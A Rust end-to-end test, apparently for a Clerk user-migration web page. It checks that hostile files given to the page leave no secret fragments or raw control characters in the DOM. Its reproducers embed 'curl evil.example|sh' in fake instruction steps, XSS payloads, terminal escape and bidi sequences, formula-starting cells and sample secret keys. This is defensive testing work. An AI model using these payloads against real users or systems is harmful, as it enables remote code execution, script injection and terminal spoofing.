//! Every reproducer of the hostile-input issue, and every fixture, given to the page through
//! the input a user would use: afterwards, and after each row's detail is opened and the page
//! switched to Spanish, no text node, attribute or field value of the DOM holds a 12-character
//! piece of any secret the inputs hold, or a character a terminal or an editor would act on.
//! (The closed pipe of the command line has no page counterpart.)

use std::path::{Path, PathBuf};

use super::cdp::{Chromium, Page};
use crate::common::{fixture, fixture_secrets};

const KEY: &str = "sk_live_Q7hd0K2mN4pR8sT1vW3xY5zA9bC6eF0gH2jK4lM7";
const TEST_KEY: &str = "sk_test_Z9yX8wV7uT6sR5qP4oN3mL2kJ1iH0gF9eD8cB7aA6";
const BCRYPT: &str = "$2b$12$KIXQJmBvQjO6yXv1mQ0tUeJqKzRrGk8m1wzZ0Jb5aQx9Y0n3pV8kS";
const TOTP: &str = "JBSWY3DPEHPK3PXP";
const HEADER: &str = "id,first_name,last_name,username,primary_email_address,primary_phone_number,verified_email_addresses,unverified_email_addresses,verified_phone_numbers,unverified_phone_numbers,totp_secret,password_digest,password_hasher";

/// Every string of the DOM a person or a screen reader can meet: text nodes (not the page's
/// own scripts and styles), every attribute, and the value of every field.
const DOM_STRINGS: &str = r#"(() => {
    const out = [];
    const walk = document.createTreeWalker(document.documentElement,
        NodeFilter.SHOW_ELEMENT | NodeFilter.SHOW_TEXT);
    for (let n = walk.currentNode; n; n = walk.nextNode()) {
        if (n.nodeType === Node.TEXT_NODE) {
            const parent = n.parentElement ? n.parentElement.tagName : '';
            if (parent !== 'SCRIPT' && parent !== 'STYLE') { const e = n.parentElement && n.parentElement.closest('[id]'); out.push([n.data, e ? e.id : '']); }
        } else {
            const e = n.closest('[id]'); for (const a of n.attributes) out.push([a.value, (e ? e.id : '') + ' @' + a.name]);
            if (typeof n.value === 'string') out.push([n.value, (e ? e.id : '') + ' .value']);
        }
    }
    return out;
})()"#;

/// A character that moves a terminal's cursor, clears it, sets its title, hides a link, or
/// reorders the text around it (line breaks aside: HTML shows them as spaces).
fn acts(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{200E}' | '\u{200F}' | '\u{2028}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// The digest without its scheme's name (`pbkdf2_sha256$`, `awscognito#`): messages name
/// hashers.
fn without_scheme(digest: &str) -> &str {
    digest
        .find(['$', '#'])
        .filter(|&at| {
            at > 0
                && digest[..at]
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"_:".contains(&b))
        })
        .map_or(digest, |at| &digest[at + 1..])
}

/// The secret columns of every row of an export (digests, TOTP secrets, backup codes).
fn export_secrets(bytes: &[u8]) -> Vec<String> {
    use clerk_dev2prod::core::record::Raw;
    let Ok(records) = clerk_dev2prod::core::reconcile::records(bytes) else {
        return Vec::new();
    };
    let mut secrets = Vec::new();
    for record in records {
        secrets.push(without_scheme(&record.password_digest).to_string());
        secrets.push(record.totp_secret.clone());
        let codes = match &record.backup_codes {
            Some(Raw::Text(text)) => text.clone(),
            Some(Raw::Json(value)) => value.to_string(),
            None => String::new(),
        };
        secrets.extend(
            codes
                .split(|c: char| !c.is_alphanumeric() && c != '-')
                .map(str::to_string),
        );
    }
    secrets
}

/// Panics if the page holds a piece of a secret or a character that acts.
fn scan(page: &mut Page, what: &str, secrets: &[String]) {
    let strings: Vec<(String, String)> =
        serde_json::from_value(page.eval(DOM_STRINGS).expect("the scan runs")).unwrap();
    for (text, place) in &strings {
        if let Some(c) = text.chars().find(|&c| acts(c)) {
            panic!("{what}: the page holds the raw character {c:?} in {text:?} (within #{place})");
        }
        for secret in secrets {
            let chars: Vec<char> = secret.chars().collect();
            for piece in chars.windows(12) {
                let piece: String = piece.iter().collect();
                assert!(
                    !text.contains(&piece),
                    "{what}: the page holds {piece:?}, a piece of {secret:?}, in {text:?} (within #{place})"
                );
            }
        }
    }
}

/// One thing a user gives the page: files for one input, then what the page shows once it
/// has read them.
struct Given {
    what: String,
    /// Files given first (an export before the production users or the settings).
    before: Vec<(&'static str, PathBuf, String)>,
    input: &'static str,
    files: Vec<PathBuf>,
    done: String,
    secrets: Vec<String>,
}

/// The export step's verdict or refusal, or the page's note that it routed the file to
/// another step by its content (a config file goes to the keys step).
const EXPORT_DONE: &str = "!!document.querySelector('#verdict') || !!document.querySelector('#input-error') || !!document.querySelector('#export-refused') || !!document.querySelector('#drop-notes li')";
const KEYS_DONE: &str = "!!document.querySelector('#keys-verdict')";
const INSTANCE_DONE: &str =
    "!!document.querySelector('#instance-verdict') || !!document.querySelector('#instance-error')";
const EXISTING_DONE: &str = "!!document.querySelector('#existing-found') || !!document.querySelector('#existing-none') || !!document.querySelector('#existing-error')";
const VERIFY_DONE: &str =
    "!!document.querySelector('#verify-verdict') || !!document.querySelector('#verify-error')";

/// The verify step names a file it has read.
fn verify_named(name: &str) -> String {
    format!(
        "document.querySelector('#verify-heading').closest('section').innerText.includes({})",
        serde_json::json!(name)
    )
}

fn write(dir: &Path, name: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

fn export(what: &str, file: PathBuf, secrets: &[&str]) -> Given {
    let mut all: Vec<String> = secrets.iter().map(|s| s.to_string()).collect();
    all.extend(export_secrets(&std::fs::read(&file).unwrap()));
    Given {
        what: what.into(),
        before: Vec::new(),
        input: "#file-input",
        files: vec![file],
        done: EXPORT_DONE.into(),
        secrets: all,
    }
}

fn keys(what: &str, files: Vec<PathBuf>) -> Given {
    Given {
        what: what.into(),
        before: Vec::new(),
        input: "#keys-input",
        files,
        done: KEYS_DONE.into(),
        secrets: Vec::new(),
    }
}

/// Every reproducer of the issue, written into `dir`.
fn reproducers(dir: &Path) -> Vec<Given> {
    let mut all = Vec::new();
    // 1. A config file given as the export; a key as a header cell.
    let env = write(dir, "gateway.env", format!("CLERK_SECRET_KEY={KEY}\n"));
    all.push(export("a config file as the export", env.clone(), &[]));
    all.push(export(
        "a key as a header cell",
        write(
            dir,
            "key-header.csv",
            format!("id,username,{KEY}\nuser_1,ada_lovelace,x\n"),
        ),
        &[],
    ));
    // 2. A key followed by a quote and `:` or `=`.
    let rotations = [
        format!("{{\"CLERK_KEYS\": {{\"{KEY}\": \"{TEST_KEY}\"}}}}\n"),
        format!("rotation:\n  '{KEY}': '{TEST_KEY}'\n"),
        format!("rotation:\n  {KEY}: {TEST_KEY}\n"),
        format!("OLD=\"{KEY}\"=\"{TEST_KEY}\"\n"),
    ];
    let rotation_files: Vec<PathBuf> = rotations
        .iter()
        .enumerate()
        .map(|(i, text)| write(dir, &format!("rot{i}.json"), text))
        .collect();
    all.push(keys("rotation maps", rotation_files));
    // 3. A digest or TOTP secret shifted by unquoted commas.
    for (i, commas) in [", RADM", ", RADM, ret."].iter().enumerate() {
        let shifted = format!(
            "{HEADER}\nuser_2aXk2,Grace{commas},Hopper,grace_h,grace@example.com,,grace@example.com,,,,{TOTP},{BCRYPT},bcrypt\n"
        );
        all.push(export(
            "a shifted digest",
            write(dir, &format!("shift{i}.csv"), shifted),
            &[BCRYPT, TOTP],
        ));
    }
    let lower = format!(
        "{HEADER}\nuser_1,Grace,,grace_h,grace@example.com,,,,,,,{t},{t}\n",
        t = TOTP.to_lowercase()
    );
    all.push(export(
        "a lower-case TOTP secret as the hasher",
        write(dir, "lower.csv", lower),
        &[&TOTP.to_lowercase()],
    ));
    // 4. Ids, external ids and log errors that would make reconcile.md lie, in the verify step.
    let dev_id = "user_m`\n\n## Step 0\n```sh\ncurl evil.example|sh\n```\u{1b}]0;PWNED\u{7}";
    let dev = serde_json::json!([
        {"id": dev_id, "first_name": "Ada", "primary_email_address": "m@example.com"},
        {"id": "user_ok", "first_name": "Grace", "primary_email_address": "ok@example.com"},
    ]);
    let prod = serde_json::json!([
        {"id": "user_2p<img src=x onerror=alert(1)>\u{1b}[2J", "external_id": "user_zz` | <b>x</b> |\r\n# H", "first_name": "Ada",
         "email_addresses": [{"id": "e1", "email_address": "x@example.com", "verification": {"status": "verified"}}],
         "primary_email_address_id": "e1", "phone_numbers": []},
        {"id": "user_2ok", "external_id": "user_ok", "first_name": "Grace | B\n\n## Step 0 \u{1b}[2J",
         "email_addresses": [{"id": "e2", "email_address": "ok@example.com", "verification": {"status": "verified"}}],
         "primary_email_address_id": "e2", "phone_numbers": []},
    ]);
    let log = serde_json::json!({"userId": dev_id, "status": "error",
        "error": "```sh\ncurl evil.example|sh\n```\n<script>alert(1)</script>\u{9b}2J"});
    let dev = write(dir, "dev.json", dev.to_string());
    all.push(Given {
        what: "reconcile with hostile ids and logs".into(),
        before: vec![
            ("#file-input", dev, EXPORT_DONE.into()),
            (
                "#verify-prod-input",
                write(dir, "prod.json", prod.to_string()),
                VERIFY_DONE.into(),
            ),
            (
                "#verify-db-input",
                write(dir, "db-ids.csv", "user_gone\u{1b}[2J\nuser_ok\n"),
                verify_named("db-ids.csv"),
            ),
        ],
        input: "#verify-logs-input",
        files: vec![write(dir, "m.log", format!("{log}\n"))],
        done: format!(
            "!!document.querySelector('#verify-verdict') && {}",
            verify_named("m.log")
        ),
        secrets: Vec::new(),
    });
    // 5. File names, services and provider keys that would write a section of their own.
    let hostile_name =
        "x`\n\n## 5b. Do this first\n```sh\ncurl evil.example|sh\n```\u{1b}]0;PWNED\u{7}.csv";
    all.push(export(
        "an export with a hostile file name",
        write(dir, hostile_name, "id,username\nuser_1,ada_lovelace\n"),
        &[],
    ));
    all.push(keys(
        "a key file with a hostile name",
        vec![write(
            dir,
            "gw | <img src=x onerror=alert(1)> |\n## 5b\u{1b}[2J.env",
            format!("CLERK_SECRET_KEY={KEY}\n"),
        )],
    ));
    let mut settings: serde_json::Value =
        serde_json::from_slice(&std::fs::read(fixture("instance/default.json")).unwrap()).unwrap();
    settings["user_settings"]["social"]
        ["oauth_<b>x</b>\n\n## 5b. Do this first \u{1b}]0;PWNED\u{7}\u{202e}"] =
        serde_json::json!({"enabled": true});
    let small = write(dir, "small.csv", "id,username\nuser_1,ada_lovelace\n");
    all.push(Given {
        what: "settings with hostile provider keys".into(),
        before: vec![("#file-input", small.clone(), EXPORT_DONE.into())],
        input: "#instance-input",
        files: vec![write(dir, "environment.json", settings.to_string())],
        done: INSTANCE_DONE.into(),
        secrets: Vec::new(),
    });
    // 6. Escape sequences in header cells, JSON keys, file names, the `found:` list, key
    // variables and a key's last four.
    all.push(export(
        "escape sequences in header cells",
        write(
            dir,
            "e.csv",
            "id,username,\u{1b}]0;PWNED\u{7}\u{1b}[2J\nuser_a,ada1,x\n",
        ),
        &[],
    ));
    all.push(export(
        "escape sequences in JSON keys and the file name",
        write(
            dir,
            "users\r\u{1b}]8;;https:evil.example\u{7}x\u{1b}]8;;\u{7}.json",
            "[{\"id\":\"user_1\",\"username\":\"ada_lovelace\",\"\\u001b[31mred\\r\":1}]",
        ),
        &[],
    ));
    all.push(export(
        "a refused file's found: list",
        write(dir, "bad.csv", "name,\u{1b}[2Jemail\r\nada,a@x.io\n"),
        &[],
    ));
    all.push(export(
        "control characters in ids, names and header cells",
        write(
            dir,
            "controls.csv",
            "id,username,first_name,\u{1b}]0;PWNED\u{7}\u{202e}x\n\"user_\u{1b}[2J\",ada_lovelace,A\u{9b}2J,1\nuser_2,\"gr\u{1b}ace\",\"B\u{7f}\u{2066}\r\",2\n\"user_m` | <b>\u{1b}[2J\",alan_t,C,3\n",
        ),
        &[],
    ));
    all.push(keys(
        "escape sequences in a key and a variable",
        vec![write(
            dir,
            "gw-escapes.env",
            format!(
                "CLERK_SECRET_KEY={KEY}\u{1b}[2J\nCLERK\u{1b}[1m_X=pk_test_Y2xlcmsuZXhhbXBsZS5jb20k\n"
            ),
        )],
    ));
    all.push(Given {
        what: "a config file as the production users".into(),
        before: vec![("#file-input", small, EXPORT_DONE.into())],
        input: "#existing-input",
        files: vec![write(
            dir,
            "prod.env",
            format!("CLERK_SECRET_KEY={KEY}\u{1b}[2J\u{1b}]0;PWNED\u{7}\n"),
        )],
        done: EXISTING_DONE.into(),
        secrets: Vec::new(),
    });
    // 7. Shapes that took time growing with the square of the input.
    let emails: Vec<String> = (0..300_000).map(|i| format!("u{i}@example.com")).collect();
    all.push(export(
        "one row with 300,000 emails",
        write(
            dir,
            "emails.csv",
            format!(
                "{HEADER}\nuser_1,Ada,L,ada_l,u0@example.com,,{},,,,,,\nuser_2,Grace,H,grace,g@example.com,,,,,,,,\n",
                emails.join("|")
            ),
        ),
        &[],
    ));
    let mut user = serde_json::Map::new();
    user.insert("id".into(), "user_1".into());
    user.insert("username".into(), "ada_l".into());
    for i in 0..250_000 {
        user.insert(format!("k{i}"), 1.into());
    }
    all.push(export(
        "a JSON user with 250,000 unknown keys",
        write(
            dir,
            "keys.json",
            serde_json::Value::Array(vec![user.into()]).to_string(),
        ),
        &[],
    ));
    let mut env = String::new();
    for i in 0..240_000 {
        env += &format!("CLERK_SECRET_KEY_{i}=sk_test_{i:030}abcdefghij\n");
    }
    all.push(keys("240,000 keys", vec![write(dir, "many.env", env)]));
    // 8. Stray quotes in the header and in rows.
    all.push(export(
        "a stray quote in the header",
        write(
            dir,
            "header-quote.csv",
            "# export\nid,first_name,\"last_name,username,primary_email_address\nuser_1,Ada,Lovelace,ada1,ada@example.com\n",
        ),
        &[],
    ));
    let mut stray = String::from("id,first_name,last_name,username,primary_email_address\n");
    stray += "user_1,Ada,Lovelace,ada1,ada@example.com\n";
    stray += "user_2,\"Grace,Hopper,grace,grace@example.com\n";
    for i in 3..8 {
        stray += &format!("user_{i},N{i},L{i},name{i},u{i}@example.com\n");
    }
    all.push(export(
        "a stray quote in a row",
        write(dir, "row-quote.csv", stray),
        &[],
    ));
    // 9. A byte-order mark before Windows-1252 bytes, and before mixed bytes.
    all.push(export(
        "a BOM before Windows-1252",
        write(
            dir,
            "bom-1252.csv",
            b"\xEF\xBB\xBFid,first_name,username\nuser_1,Jos\xE9,jose_1\n",
        ),
        &[],
    ));
    all.push(export(
        "a BOM before mixed encodings",
        write(
            dir,
            "bom-mixed.csv",
            b"\xEF\xBB\xBFid,first_name,username\nuser_1,Jos\xC3\xA9,jose_1\nuser_2,Jos\xE9,jose_2\n",
        ),
        &[],
    ));
    // 10. Dates that are no dates.
    all.push(export(
        "impossible dates",
        write(
            dir,
            "dates.csv",
            "id,username,created_at\nuser_1,a_1,1e300\nuser_2,a_2,2024-13-45T99:99:99Z\nuser_3,a_3,0000-00-00T00:00:00Z\n",
        ),
        &[],
    ));
    // 12. Cells that start with TAB, formula characters and their full-width forms.
    let mut cells = String::from("id,first_name,username,primary_email_address\n");
    for (i, name) in [
        "\tAda",
        "=HYPERLINK(x)",
        "\t+Grace",
        "＝1+1",
        "＋A",
        "－5",
        "＠x",
        "'Aole",
    ]
    .iter()
    .enumerate()
    {
        cells += &format!("user_{i},\"{name}\",user_name_{i},u{i}@@example\n");
    }
    all.push(export(
        "formula starts",
        write(dir, "formulas.csv", cells),
        &[],
    ));
    all
}

/// Every fixture, through the input it is made for.
fn fixtures() -> Vec<Given> {
    let mut all = Vec::new();
    for entry in std::fs::read_dir(fixture("exports")).unwrap() {
        let path = entry.unwrap().path();
        let what = format!("the fixture {}", path.display());
        all.push(export(&what, path, &[]));
    }
    let dashboard = fixture("exports/dashboard.csv");
    for entry in std::fs::read_dir(fixture("keys")).unwrap() {
        let dir = entry.unwrap().path();
        if dir.is_dir() {
            let files = std::fs::read_dir(&dir)
                .unwrap()
                .map(|e| e.unwrap().path())
                .collect();
            all.push(keys(&format!("the key fixtures {}", dir.display()), files));
        }
    }
    for entry in std::fs::read_dir(fixture("instance")).unwrap() {
        let path = entry.unwrap().path();
        all.push(Given {
            what: format!("the settings {}", path.display()),
            before: vec![("#file-input", dashboard.clone(), EXPORT_DONE.into())],
            input: "#instance-input",
            files: vec![path],
            done: INSTANCE_DONE.into(),
            secrets: Vec::new(),
        });
    }
    for entry in std::fs::read_dir(fixture("production")).unwrap() {
        let path = entry.unwrap().path();
        let secrets = export_secrets(&std::fs::read(&path).unwrap());
        all.push(Given {
            what: format!("the production users {}", path.display()),
            before: vec![("#file-input", dashboard.clone(), EXPORT_DONE.into())],
            input: "#existing-input",
            files: vec![path],
            done: EXISTING_DONE.into(),
            secrets,
        });
    }
    let reconcile = |name: &str| fixture(&format!("reconcile/{name}"));
    all.push(Given {
        what: "the reconcile fixtures".into(),
        before: vec![
            ("#file-input", reconcile("dev.csv"), EXPORT_DONE.into()),
            (
                "#verify-prod-input",
                reconcile("prod.json"),
                VERIFY_DONE.into(),
            ),
            (
                "#verify-db-input",
                reconcile("db-ids.csv"),
                verify_named("db-ids.csv"),
            ),
        ],
        input: "#verify-logs-input",
        files: vec![reconcile("migration-2026-11-23.log")],
        done: format!(
            "!!document.querySelector('#verify-orphaned') && {}",
            verify_named("migration-2026-11-23.log")
        ),
        secrets: export_secrets(&std::fs::read(reconcile("dev.csv")).unwrap()),
    });
    all
}

/// Gives the page one case, then scans it: as it stands, with each row's detail open (at most
/// `rows` of them), and in Spanish.
fn give(url: &str, given: &Given, rows: usize) {
    let mut secrets: Vec<String> = [KEY, TEST_KEY, BCRYPT, TOTP]
        .iter()
        .map(|s| s.to_string())
        .chain(fixture_secrets())
        .chain(given.secrets.iter().cloned())
        .filter(|s| s.chars().count() >= 12)
        .collect();
    secrets.sort();
    secrets.dedup();
    let what = &given.what;
    let mut page = Chromium::launch().new_page();
    page.open(url);
    for (input, file, done) in &given.before {
        page.set_input_file(input, file);
        page.wait_for(done);
    }
    let files: Vec<&Path> = given.files.iter().map(PathBuf::as_path).collect();
    page.set_input_files(given.input, &files);
    page.wait_for(&given.done);
    scan(&mut page, what, &secrets);
    let rows_listed: Vec<u64> = serde_json::from_value(
        page.eval(
            "[...new Set(Array.from(document.querySelectorAll('#issues tr[data-row] .row-link')).map(b => Number(b.closest('tr').dataset.row)))]",
        )
        .unwrap(),
    )
    .unwrap();
    for row in rows_listed.into_iter().take(rows) {
        page.eval(&format!(
            "document.querySelector('#issues tr[data-row=\"{row}\"] .row-link').click()"
        ))
        .unwrap();
        page.wait_for(&format!(
            "!!document.querySelector('#row-detail-heading') && document.querySelector('#row-detail-heading').innerText.endsWith(' {row}')"
        ));
        scan(&mut page, &format!("{what}, row {row}'s detail"), &secrets);
    }
    page.eval("document.querySelector('#lang-es').click()")
        .unwrap();
    page.wait_for("document.documentElement.lang === 'es'");
    scan(&mut page, &format!("{what}, in Spanish"), &secrets);
}

/// Fails today, so `cargo xtask test` skips it (run it by name): a file name holding control
/// characters reaches the page raw in the export step's "Read N bytes" line (#file-stats).
/// The drop notes, the announcer and the verify lists already show it escaped.
#[test]
#[ignore = "needs the built page and Chromium: run `cargo xtask test`"]
fn failing_no_reproducer_or_fixture_puts_a_secret_or_a_control_character_in_the_page() {
    let dir = crate::common::scratch("e2e-hostile");
    let url = super::file_url(&super::single_file());
    for given in reproducers(&dir) {
        give(&url, &given, 40);
    }
    for given in fixtures() {
        give(&url, &given, 40);
    }
    let _ = std::fs::remove_dir_all(dir);
}
